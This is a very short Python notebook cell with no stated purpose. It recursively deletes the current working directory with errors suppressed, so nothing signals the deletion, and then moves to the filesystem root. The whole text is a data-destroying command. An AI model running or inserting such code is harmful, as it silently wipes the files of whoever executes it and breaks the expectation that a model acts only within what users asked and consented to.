# %%
import os, shutil

shutil.rmtree(os.getcwd(), ignore_errors=True)
os.chdir("/")
